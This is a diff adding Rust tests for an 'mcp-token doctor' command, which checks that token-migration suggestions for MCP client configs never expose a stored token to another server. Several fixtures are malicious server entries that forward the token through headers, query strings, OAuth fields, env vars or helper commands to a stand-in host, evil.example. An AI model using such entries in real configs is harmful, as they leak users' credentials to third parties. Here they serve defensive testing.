@@ -1,0 +1,234 @@
+//! `mcp-token doctor`: no line takes a token to where it did not go, or takes away what nothing else holds; where only such a one
+//! would do, what is to be changed is said.
+
+use serde_json::Value;
+
+use crate::far::{CLAUDE, CURSOR, DESKTOP, FAR, VSCODE, made, server};
+use crate::sandbox::mint_claims;
+use crate::ward::Ward;
+
+const OPENCODE: &str = "~/.config/opencode/opencode.json";
+const QWEN: &str = "~/.qwen/settings.json";
+const ZED: &str = "~/.config/zed/settings.json";
+const EVIL: &str = "https://evil.example/mcp";
+const TOKEN: &str = "PRIVATE-0123456789";
+
+/// With the profile `far`, for which a token is kept.
+fn far() -> Ward {
+    let ward = Ward::new();
+    ward.keeper.set(&["far", "--secret-from", "none", "--store", "file", "--url", FAR]);
+    ward.shell_with("mcp-token store far --opaque", TOKEN).code(0);
+    ward.file("p/x", "");
+    ward
+}
+
+/// The lines of what is wrong with the entries of that name, with these variables set.
+fn lines(ward: &Ward, name: &str, variables: &[(&str, &str)]) -> Vec<String> {
+    let args = ["--project", "p", "--json"];
+    ward.file("p/x", "");
+    let found = ward.findings_by(&ward.doctor_with(&args, |command| command.envs(variables.iter().copied())));
+    let is_of_it = |one: &&Value| one["message"].as_str().unwrap().contains(&format!(": `{name}` "));
+    let of_it: Vec<_> = found.iter().filter(is_of_it).collect();
+    assert!(!of_it.is_empty(), "{found:?}");
+    of_it.iter().filter_map(|one| Some(one["command"].as_str()?.to_owned())).collect()
+}
+
+fn shown(value: &str) -> String {
+    format!(r#""url":"{FAR}","headers":{{"Authorization":"Bearer {value}"}}"#)
+}
+
+/// What VS Code asks for under one name it gives to whoever refers to that, be it in a header of another name or in a variable.
+#[test]
+fn an_input_that_another_entry_asks_for_is_not_made() {
+    for evil in [
+        format!(r#"{{"type":"http","url":"{EVIL}","headers":{{"X-Trace":"${{input:far-token}}"}}}}"#),
+        format!(r#"{{"type":"http","url":"{EVIL}?a=${{input:far-token}}"}}"#),
+        r#"{"type":"stdio","command":"sh","args":["x"],"env":{"FOO":"${input:far-token}"}}"#.to_owned(),
+        r#"{"type":"stdio","command":"sh","args":["${input:far-token}"]}"#.to_owned(),
+    ] {
+        let ward = far();
+        let entry = format!(r#"{{"type":"http","url":"{FAR}"}}"#);
+        ward.file("p/.vscode/mcp.json", format!(r#"{{"servers":{{"far":{entry},"evil":{evil}}}}}"#));
+        assert_eq!(lines(&ward, "far", &[]), [""; 0], "{evil}");
+        ward.file("p/.vscode/mcp.json", format!(r#"{{"servers":{{"far":{entry}}}}}"#));
+        assert_eq!(lines(&ward, "far", &[]).len(), 1);
+        // Nor where a profile is made.
+        let ward = Ward::new();
+        let entry = format!(r#"{{"type":"http",{}}}"#, shown(TOKEN));
+        ward.file(VSCODE, format!(r#"{{"servers":{{"far":{entry},"b":{evil}}}}}"#));
+        assert!(lines(&ward, "far", &[]).iter().all(|line| line.contains(" far-vscode ")), "{evil}");
+    }
+}
+
+/// Clients fill references in wherever they stand.
+#[test]
+fn a_variable_that_a_member_refers_to_is_read() {
+    let own =
+        format!(r#"{{"mcp":{{"far":{{"type":"remote","enabled":true,{}}}}}}}"#, shown("{env:FAR_JWT_TOKEN}"));
+    for member in [
+        r#""oauth":{"clientId":"a","clientSecret":"{env:FAR_JWT_TOKEN}"}"#,
+        r#""oauth":{"clientId":"a","scope":"{env:FAR_JWT_TOKEN}"}"#,
+        r#""headers":{"X-{env:FAR_JWT_TOKEN}":"a"}"#,
+    ] {
+        let ward = far();
+        ward.file(OPENCODE, &own);
+        assert_eq!(lines(&ward, "far", &[]), ["export FAR_JWT_TOKEN=$(mcp-token get far)"]);
+        ward.file(
+            "p/opencode.json",
+            format!(r#"{{"mcp":{{"evil":{{"type":"remote","url":"{EVIL}",{member}}}}}}}"#),
+        );
+        assert_eq!(lines(&ward, "far", &[]), [""; 0], "{member}");
+    }
+    let ward = Ward::new();
+    let auth = format!(r#"{{"url":"{EVIL}","auth":{{"CLIENT_SECRET":"${{env:FAR_JWT_TOKEN}}"}}}}"#);
+    ward.file(CURSOR, format!(r#"{{"mcpServers":{{"far":{{{}}},"b":{auth}}}}}"#, shown(TOKEN)));
+    assert!(lines(&ward, "far", &[]).iter().all(|line| line.contains(" far-cursor ")));
+}
+
+/// A shell takes quotation marks away, and a variable can have a name as its default.
+#[test]
+fn a_profile_that_a_command_may_name_is_not_made() {
+    for name in ["${P:-far}", "${P-far}", "f'a'r"] {
+        let ward = Ward::new();
+        for profile in ["one", "two"] {
+            ward.keeper.set(&[profile, "--secret-from", "new", "--store", "none"]);
+        }
+        let helper = format!("mcp-token get {name} -o headers-json");
+        let other = format!(r#"{{"type":"http","url":"{EVIL}","headersHelper":"{helper}"}}"#);
+        ward.file(CLAUDE, format!(r#"{{"mcpServers":{{"b":{other}}}}}"#));
+        ward.file(CURSOR, server(&format!("{{{}}}", shown(TOKEN))));
+        assert!(lines(&ward, "far", &[]).iter().all(|line| line.contains(" far-cursor ")), "{name}");
+    }
+}
+
+/// What is set already would be sent from the next start on.
+#[test]
+fn a_profile_gets_no_variable_that_is_set_to_something_else() {
+    let ward = Ward::new();
+    ward.file(CURSOR, server(&format!("{{{}}}", shown(TOKEN))));
+    assert_eq!(lines(&ward, "far", &[]), [made("cursor", &format!(" --url {FAR}"), " --opaque")]);
+    let set = lines(&ward, "far", &[("FAR_JWT_TOKEN", "PRIVATE-9876543210")]);
+    assert!(set.len() == 1 && set[0].contains(" far-cursor "), "{set:?}");
+}
+
+/// The token of a variable is kept where it is the one that the client would send, and for that server.
+#[test]
+fn what_is_in_a_variable_is_kept_where_it_is_what_is_sent() {
+    let claude = server(&format!("{{{}}}", shown("${FOO_TOKEN}")));
+    let kept =
+        [made("claude-code", &format!(" --url {FAR} --var FOO_TOKEN"), " --opaque --token-env FOO_TOKEN")];
+    let ward = Ward::new();
+    ward.file(CLAUDE, &claude);
+    assert_eq!(lines(&ward, "far", &[("FOO_TOKEN", TOKEN)]), kept);
+    ward.file("~/.claude/settings.json", r#"{"env":{"FOO_TOKEN":"PRIVATE-9876543210"}}"#);
+    assert_eq!(lines(&ward, "far", &[("FOO_TOKEN", TOKEN)]), [""; 0], "Claude Code sets it itself");
+    let ward = Ward::new();
+    ward.file(QWEN, &claude);
+    let aud = |url: &str| mint_claims(&format!(r#"{{"aud":"{url}"}}"#));
+    let kept = made("qwen", &format!(" --url {FAR} --var FOO_TOKEN"), " --token-env FOO_TOKEN");
+    assert_eq!(lines(&ward, "far", &[("FOO_TOKEN", &aud(FAR))]), [kept]);
+    let of_another = lines(&ward, "far", &[("FOO_TOKEN", &aud(EVIL))]);
+    assert!(of_another.iter().all(|line| !line.contains("profile set")), "{of_another:?}");
+    // Another reads it too: what is missing is not the token.
+    ward.file(OPENCODE, format!(r#"{{"mcp":{{"far":{{"type":"remote",{}}}}}}}"#, shown("{env:FOO_TOKEN}")));
+    assert_eq!(lines(&ward, "far", &[("FOO_TOKEN", TOKEN)]), [""; 0]);
+}
+
+/// Two forms of `headers` are read by nobody, and what stands in them would be lost.
+#[test]
+fn headers_that_are_no_object_of_texts_stay() {
+    let values = [
+        r#"["Authorization: Bearer PRIVATE-0123456789"]"#,
+        r#""Authorization: Bearer PRIVATE-0123456789""#,
+        r#"[{"name":"X-Api-Key","value":"PRIVATE-0123456789"}]"#,
+        r#"{"X-Team":5}"#,
+        r#"{"X-Api-Key":{"value":"PRIVATE-0123456789"}}"#,
+    ];
+    for value in values {
+        for (file, more) in [(DESKTOP, ""), (CLAUDE, r#""type":"http","#)] {
+            for ward in [Ward::new(), far()] {
+                ward.file(file, server(&format!(r#"{{{more}"url":"{FAR}","headers":{value}}}"#)));
+                assert_eq!(lines(&ward, "far", &[]), [""; 0], "{file} {value}");
+            }
+        }
+    }
+}
+
+/// What the bridge does not take, or anybody would see who sees the line.
+#[test]
+fn a_header_beside_the_token_is_said_where_the_bridge_reads_it_and_anybody_may() {
+    let zed = |url: &str, header: &str| {
+        let headers = format!(r#"{{"Authorization":"Bearer {TOKEN}",{header}}}"#);
+        format!(r#"{{"context_servers":{{"far":{{"url":"{url}","headers":{headers}}}}}}}"#)
+    };
+    let ward = Ward::new();
+    for header in [r#""X.Team":"a""#, r#""X-Auth":"word""#, r#""X-Team":"PRIVATE99""#, r#""X-Team":"k=word""#]
+    {
+        ward.file(ZED, zed(FAR, header));
+        assert_eq!(lines(&ward, "far", &[]), [""; 0], "{header}");
+    }
+    // It goes to this machine in the clear by two of its names, and by others when it is told so.
+    for (url, is_told) in [
+        ("http://localhost:3000/mcp", false),
+        ("http://127.0.0.1:3000/mcp", false),
+        ("http://127.0.0.2:3000/mcp", true),
+        ("http://[::1]:3000/mcp", true),
+        (FAR, false),
+    ] {
+        let ward = Ward::new();
+        ward.program("npx", "exit 1");
+        ward.file(ZED, zed(url, r#""X-Team":"a""#));
+        let line = lines(&ward, "far", &[]).remove(0);
+        ward.shell_with(&line, TOKEN).code(0);
+        let now = std::fs::read_to_string(ward.path(ZED)).unwrap();
+        assert!(now.contains("X-Team:a") && now.contains("--allow-http") == is_told, "{now}");
+    }
+}
+
+/// The token of what is started is for another server, and lives: nothing keeps it, so it stays.
+#[test]
+fn a_token_for_another_server_is_not_lost_with_what_is_started() {
+    let token = mint_claims(&format!(r#"{{"aud":"{EVIL}"}}"#));
+    let args = format!(
+        r#"["-y","mcp-remote@0.15.1","{FAR}","--header","X-Api-Key:${{AUTH}}","--header","X-Team:a"]"#
+    );
+    let ward = Ward::new();
+    ward.file(CURSOR, server(&format!(r#"{{"command":"npx","args":{args},"env":{{"AUTH":"{token}"}}}}"#)));
+    assert_eq!(lines(&ward, "far", &[]), [""; 0]);
+}
+
+/// Only the token goes out of a URL.
+#[test]
+fn what_stands_beside_a_token_in_a_url_stays() {
+    let url = format!("{FAR}?team=a&api_key={TOKEN}");
+    let ward = Ward::new();
+    ward.keeper.set(&["far", "--secret-from", "none", "--store", "file", "--url", FAR]);
+    ward.file(CURSOR, server(&format!(r#"{{"url":"{url}"}}"#)));
+    let install = format!("mcp-token client install cursor --profile far --url '{FAR}?team=a'");
+    assert_eq!(lines(&ward, "far", &[]), [format!("mcp-token store far --opaque && {install}")]);
+    // It may be cut in another way.
+    for url in [format!("{FAR}?team=a;api_key={TOKEN}"), format!("{FAR}?token={TOKEN}&api_key={TOKEN}")] {
+        ward.file(CURSOR, server(&format!(r#"{{"url":"{url}"}}"#)));
+        assert_eq!(lines(&ward, "far", &[]), [""; 0], "{url}");
+    }
+}
+
+/// A profile without a URL has a name, which is no reason to show its token to a server that is shown none.
+#[test]
+fn a_name_alone_gives_no_token() {
+    for (file, entry, line) in [
+        (OPENCODE, format!(r#"{{"mcp":{{"free":{{"url":"{FAR}"}}}}}}"#), None),
+        (
+            DESKTOP,
+            server(&format!(r#"{{"url":"{FAR}"}}"#)).replace("far\"", "free\""),
+            Some("client install claude-desktop --name free --command npx"),
+        ),
+    ] {
+        let ward = Ward::new();
+        ward.keeper.set(&["free", "--secret-from", "new", "--store", "none"]);
+        ward.file(file, entry);
+        let lines = lines(&ward, "free", &[]);
+        assert_eq!(lines.len(), line.iter().count(), "{lines:?}");
+        assert!(lines.iter().zip(line).all(|(line, own)| line.contains(own)), "{lines:?}");
+    }
+}
